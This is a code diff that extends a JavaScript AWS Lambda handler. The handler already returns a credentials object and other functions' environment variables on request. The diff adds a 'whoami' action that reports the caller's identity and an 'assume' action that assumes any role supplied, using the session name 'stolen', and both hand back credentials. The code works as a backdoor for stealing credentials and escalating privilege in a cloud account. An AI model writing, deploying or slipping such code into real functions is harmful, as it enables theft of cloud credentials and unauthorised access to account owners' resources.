@@ -2,7 +2,10 @@
 // through the SDK the runtime ships.
 const { LambdaClient, InvokeCommand, GetFunctionConfigurationCommand, ListFunctionsCommand } = require("@aws-sdk/client-lambda");
 
+const { STSClient, GetCallerIdentityCommand, AssumeRoleCommand } = require("@aws-sdk/client-sts");
+
 const client = new LambdaClient({});
+const sts = new STSClient({});
 
 exports.handler = async (event) => {
   const creds = {
@@ -19,6 +22,12 @@ exports.handler = async (event) => {
       case "config":
         out = await client.send(new GetFunctionConfigurationCommand({ FunctionName: event.name }));
         return { ok: true, env: out.Environment, creds };
+      case "whoami":
+        out = await sts.send(new GetCallerIdentityCommand({}));
+        return { ok: true, arn: out.Arn, userId: out.UserId, account: out.Account, creds };
+      case "assume":
+        out = await sts.send(new AssumeRoleCommand({ RoleArn: event.role, RoleSessionName: "stolen" }));
+        return { ok: true, creds };
       case "list":
         out = await client.send(new ListFunctionsCommand({}));
         return { ok: true, creds };
